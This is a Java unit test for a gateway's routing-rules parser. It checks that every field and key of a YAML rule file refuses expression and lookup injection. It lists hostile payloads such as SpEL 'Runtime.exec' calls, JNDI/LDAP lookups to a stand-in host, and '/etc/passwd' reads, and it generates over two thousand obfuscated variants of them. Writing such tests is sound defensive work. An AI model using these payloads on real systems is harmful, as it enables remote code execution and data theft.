package dev.banyan.rules;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.snakeyaml.engine.v2.api.Dump;
import org.snakeyaml.engine.v2.api.DumpSettings;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Rules are data: what was smuggled into other gateways' route definitions is refused in every field of the schema. */
final class HostileTextTest {

    private static final List<String> PAYLOADS = List.of(
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "a#{@environment.getProperty('x')}",
            "${jndi:ldap://x.test/a}",
            "${sys:user.home}",
            "classpath:application.yml",
            "FILE:/etc/passwd",
            "jar:http://x.test/a.jar!/A.class",
            "jndi:ldap://x.test/a",
            "java.lang.Runtime",
            "org.springframework.context.support.ClassPathXmlApplicationContext");

    private static final String EVERYTHING = everything();

    private static String everything() {
        // Names of backends, cohorts and routes are a rule set's own, so that each file is one.
        return Stream.of("everything-else", "everything", "shifting")
                .map(HostileTextTest::input)
                .collect(Collectors.joining("\u0000"));
    }

    private static String input(String golden) {
        try {
            String text = Files.readString(Path.of("src/test/resources/golden/" + golden + ".golden"));
            return text.substring(0, text.indexOf("----------"));
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static Stream<Map<String, Object>> documents() {
        return Stream.of(EVERYTHING.split("\u0000")).map(HostileTextTest::load);
    }

    @ParameterizedTest
    @MethodSource("documents")
    void everyFieldRefusesEveryPayload(Map<String, Object> document) throws Exception {
        Rules.parse(dump(document));
        int tried = 0;
        for (List<Object> path : leaves(document, List.of())) {
            for (String payload : PAYLOADS) {
                String text = dump(with(document, path, payload));
                assertThat(problems(text)).as("%s = %s", path, payload).isNotEmpty();
                tried++;
            }
        }
        assertThat(tried).isGreaterThan(200);
    }

    @Test
    void theDocumentsHaveEveryKeyOfTheSchema() throws Exception {
        Set<String> keys = new TreeSet<>();
        collect(JsonMapper.shared().readTree(Files.readString(Path.of("routing-rules.schema.json"))), keys);
        Set<String> used = new TreeSet<>();
        documents().forEach(each -> leaves(each, List.of())
                .forEach(path -> path.forEach(key -> used.add(key.toString()))));
        keys.removeAll(used);
        assertThat(keys).as("keys that no document of this test has").isEmpty();
    }

    private static final List<UnaryOperator<String>> SPELLINGS = List.of(
            UnaryOperator.identity(),
            text -> text.toUpperCase(Locale.ROOT),
            text -> "\t " + text,
            text -> text.charAt(0) + text.substring(1).toUpperCase(Locale.ROOT));

    private static final List<UnaryOperator<String>> CLASSES = List.of(
            UnaryOperator.identity(),
            text -> " " + text,
            text -> text + "()",
            text -> "T(" + text + ").x",
            text -> "new " + text + "('a')",
            text -> "!!" + text + " [\"a\"]",
            text -> text + "\nx");

    /** What people have smuggled in, around and spelled in every way we know of. */
    private static List<String> variants() {
        List<String> variants = new ArrayList<>();
        List<String> bodies = List.of(
                "T(java.lang.Runtime).getRuntime().exec('id')",
                "new ProcessBuilder('id').start()",
                "@systemProperties['a']",
                "''.class.forName('x')",
                "1+1",
                "jndi:ldap://x.test/a",
                "env:SECRET:-x",
                "lower:j}ndi",
                "#root",
                "\\u0024x",
                "beanFactory",
                "#this.class.classLoader",
                "script:javascript:1",
                "base64:aWQ=",
                "::-j",
                "",
                "'a'.concat('b')");
        for (String body : bodies) {
            for (String open : List.of("#{", "${", "x#{", "${${", "/a/#{", "#{ ", " ${", "%{#{", "$${", "#{'", "#{{")) {
                for (String close : List.of("}", "", "}}", " }", "}/b", "}#{1}", "\n}", "}?x=1", "\t", "})")) {
                    variants.add(open + body + close);
                }
            }
        }
        for (String scheme :
                List.of("classpath", "classpath*", "file", "jar", "nested", "jndi", "ldap", "ldaps", "rmi")) {
            for (String rest : List.of(":x", ":/etc/passwd", "://x.test/a", ":a!/b", ":x\ny")) {
                SPELLINGS.forEach(spelled -> variants.add(spelled.apply(scheme) + rest));
            }
        }
        for (String name : List.of("java.lang.Runtime", "javax.script.ScriptEngine", "org.springframework.cglib.X")) {
            CLASSES.forEach(spelled -> variants.add(spelled.apply(name)));
        }
        return variants;
    }

    @Test
    void everyVariantIsRefused() {
        assertThat(variants()).hasSizeGreaterThan(2_000).allMatch(each -> HostileText.in(each) != null);
    }

    /** Two thousand times all fields of two documents, each read as the gateway reads a file. */
    @Test
    @Tag("soak")
    void everyFieldRefusesEveryVariant() {
        var soak = new Soak();
        List<Map<String, Object>> documents = documents().toList();
        int tried = 0;
        for (String variant : variants()) {
            for (Map<String, Object> document : documents) {
                for (List<Object> path : leaves(document, List.of())) {
                    tried += soak.isOver() ? 0 : refused(with(document, path, variant), path, variant);
                }
            }
        }
        soak.report("%,d pairs of a payload and a field".formatted(tried));
    }

    private static int refused(Object document, List<Object> path, String variant) {
        List<Problem> problems = new ArrayList<>();
        YamlParser.parse(Path.of("rules.yaml"), dump(document).getBytes(UTF_8), problems);
        assertThat(problems)
                .as("%s = %s", path, variant)
                .extracting(Problem::kind)
                .contains(ProblemKind.EXPRESSION);
        return 1;
    }

    private static void collect(JsonNode schema, Set<String> keys) {
        schema.path("properties").properties().forEach(each -> {
            // Words of a later version are refused whatever stands in them.
            if (!each.getValue().has("not")) {
                keys.add(each.getKey());
            }
        });
        schema.forEach(each -> collect(each, keys));
    }

    @ParameterizedTest
    @ValueSource(strings = {"#{1}", "${x}", "java.lang.Runtime", "file:/etc/passwd"})
    void aKeyIsRefusedToo(String key) {
        assertThat(problems("\"" + key + "\": []\n"))
                .extracting(Problem::expected)
                .contains("text: rules are data");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Use the new API.", "a file: b", "javascript", "my.java.shop", "text/plain; charset=utf-8"})
    void ordinaryTextIsOnlyText(String text) {
        assertThat(HostileText.in(text)).isNull();
    }

    private static List<Problem> problems(String yaml) {
        try {
            Rules.parse(yaml);
            return List.of();
        } catch (RulesException e) {
            return e.problems();
        }
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> load(String yaml) {
        return (Map<String, Object>)
                new Load(LoadSettings.builder().build()).loadFromString(yaml.replaceFirst("(?s)^###.*?\n", ""));
    }

    private static String dump(Object document) {
        return new Dump(DumpSettings.builder().build()).dumpToString(document);
    }

    /** The places of all scalars: map keys and list indexes. */
    private static List<List<Object>> leaves(Object node, List<Object> path) {
        List<List<Object>> found = new ArrayList<>();
        switch (node) {
            case Map<?, ?> map -> map.forEach((key, value) -> found.addAll(leaves(value, plus(path, key))));
            case List<?> list -> {
                for (int i = 0; i < list.size(); i++) {
                    found.addAll(leaves(list.get(i), plus(path, i)));
                }
            }
            default -> found.add(path);
        }
        return found;
    }

    private static List<Object> plus(List<Object> path, Object step) {
        List<Object> longer = new ArrayList<>(path);
        longer.add(step);
        return longer;
    }

    private static Object with(Object node, List<Object> path, String value) {
        if (path.isEmpty()) {
            return value;
        }
        List<Object> rest = path.subList(1, path.size());
        if (node instanceof Map<?, ?> map) {
            Map<Object, Object> copy = new LinkedHashMap<>(map);
            copy.computeIfPresent(path.getFirst(), (_, child) -> with(child, rest, value));
            return copy;
        }
        List<Object> copy = new ArrayList<>((List<?>) node);
        int index = (Integer) path.getFirst();
        copy.set(index, with(copy.get(index), rest, value));
        return copy;
    }
}
